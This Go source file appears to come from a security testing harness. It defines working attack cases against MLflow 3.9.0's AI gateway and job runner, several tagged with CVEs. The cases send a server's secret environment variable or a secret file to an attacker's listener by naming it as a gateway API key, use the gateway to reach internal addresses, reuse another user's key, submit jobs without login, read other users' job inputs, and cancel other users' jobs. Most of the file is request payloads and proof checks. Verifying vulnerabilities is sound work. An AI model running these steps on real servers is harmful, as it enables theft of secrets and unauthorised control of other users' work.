package attack

// mlflowGateway turns MLflow's AI gateway and its job runner, which come with the tracking server, against it.
var mlflowGateway = []Attack{
	{
		ID:       "mlflow/ai-gateway-api-base",
		Doc:      "lets the AI gateway call an address of the server's network, and reads what it answers",
		Works:    []string{"3.9.0"},
		Listener: languageModel,
		Steps:    aiGateway("not-a-key-${nonce}"),
		Proof:    Proof{Heard: "/internal-${nonce}/chat/completions", Answer: "${secret}"},
	},
	{
		ID:       "mlflow/ai-gateway-environment",
		CVE:      []string{"CVE-2026-4035"},
		Doc:      "names a variable of the server's environment as the key of the AI gateway, which sends its value to the attacker",
		Works:    []string{"3.9.0"},
		Listener: languageModel,
		Steps:    aiGateway("$MLFLOW_FLASK_SERVER_SECRET_KEY"),
		Proof:    Proof{Heard: "Bearer only-for-this-test"},
	},
	{
		ID:       "mlflow/ai-gateway-key-file",
		Doc:      "names a file of the server as the key of the AI gateway, which sends its content to the attacker",
		Works:    []string{"3.9.0"},
		Listener: languageModel,
		Steps:    aiGateway("${secret-file}"),
		Proof:    Proof{Heard: "Bearer ${secret}"},
	},
	{
		ID:       "mlflow/ai-gateway-others-key",
		Doc:      "builds a model of one's own on somebody else's key",
		Works:    []string{"3.9.0"},
		Listener: languageModel,
		Steps: []Step{
			post(aiSecrets+"/create", `{"secret_name": "secret-${nonce}", "secret_value": {"api_key": "${secret}"}, "provider": "openai", "auth_config": {"api_base": "http://${listener}/internal-${nonce}"}}`).
				save("key", "secret.secret_id").by(Victim),
			aiDefinition, aiEndpoint, aiCall,
		},
		Proof: Proof{Heard: "Bearer ${secret}"},
	},
	{
		ID:    "mlflow/job-submitted",
		CVE:   []string{"CVE-2026-0545", "CVE-2026-2652"},
		Doc:   "submits a job for the server to run, by a route that asks for no login",
		Works: []string{"new", "3.9.0"}, Server: "jobs",
		Steps: []Step{post("/ajax-api/3.0/jobs/", `{"job_name": "invoke_scorer", "params": {"experiment_id": "0", "serialized_scorer": "{\"note\": \"lab-${nonce}\"}", "trace_ids": ["tr-${nonce}"]}}`)},
		Proof: Proof{Probe: everyJob(), Shows: "lab-${nonce}"},
	},
	{
		ID:    "mlflow/job-of-others",
		CVE:   []string{"CVE-2026-0545", "CVE-2026-2652"},
		Doc:   "reads what somebody else's jobs were given",
		Works: []string{"new", "3.9.0"}, Server: "jobs",
		Steps: []Step{
			post("/ajax-api/3.0/jobs/", `{"job_name": "invoke_scorer", "params": {"experiment_id": "0", "serialized_scorer": "{\"note\": \"${secret}\"}", "trace_ids": ["tr-${nonce}"]}}`).by(Victim),
			post("/ajax-api/3.0/jobs/search", `{}`),
		},
		Proof: Proof{Answer: "${secret}"},
		Check: &Check{Steps: []Step{post("/ajax-api/3.0/jobs/search", `{}`)}, Proof: Proof{Answer: `"jobs"`}},
	},
	{
		ID:    "mlflow/job-cancelled",
		Doc:   "cancels somebody else's job",
		Works: []string{"new", "3.9.0"}, Server: "jobs",
		Steps: []Step{
			post("/ajax-api/3.0/jobs/", `{"job_name": "invoke_scorer", "params": {"experiment_id": "0", "serialized_scorer": "{}", "trace_ids": ["tr-${nonce}"]}}`).save("job", "job_id").by(Victim),
			{Request: "PATCH /ajax-api/3.0/jobs/cancel/${job}"},
		},
		Proof: Proof{Probe: probe("GET /ajax-api/3.0/jobs/${job}"), Shows: "CANCELED"},
	},
}

const aiSecrets = "/api/3.0/mlflow/gateway/secrets"

// languageModel answers as providers of chats do.
var languageModel = map[string]Reply{"*": {Type: "application/json", Body: `{"id": "x", "object": "chat.completion", "created": 1, "model": "m", "choices": [{"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": "${secret}"}}], "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}}`}}

// The steps that lead from a key to a call with it.
var (
	aiDefinition = post("/api/3.0/mlflow/gateway/model-definitions/create", `{"name": "lab-${nonce}", "secret_id": "${key}", "provider": "openai", "model_name": "gpt-4o"}`).
			save("definition", "model_definition.model_definition_id")
	aiEndpoint = post("/api/3.0/mlflow/gateway/endpoints/create", `{"name": "lab-${nonce}", "model_configs": [{"model_definition_id": "${definition}", "linkage_type": "PRIMARY", "weight": 1.0}]}`)
	aiCall     = post("/gateway/lab-${nonce}/mlflow/invocations", `{"messages": [{"role": "user", "content": "hello"}]}`)
)

// aiGateway keeps a key, for a provider at the attacker's listener, and has it used.
func aiGateway(key string) []Step {
	return []Step{
		post(aiSecrets+"/create", `{"secret_name": "lab-${nonce}", "secret_value": {"api_key": "`+key+`"}, "provider": "openai", "auth_config": {"api_base": "http://${listener}/internal-${nonce}"}}`).
			save("key", "secret.secret_id"),
		aiDefinition, aiEndpoint, aiCall,
	}
}

func everyJob() *Step { return &Step{Request: "POST /ajax-api/3.0/jobs/search\n\n{}"} }
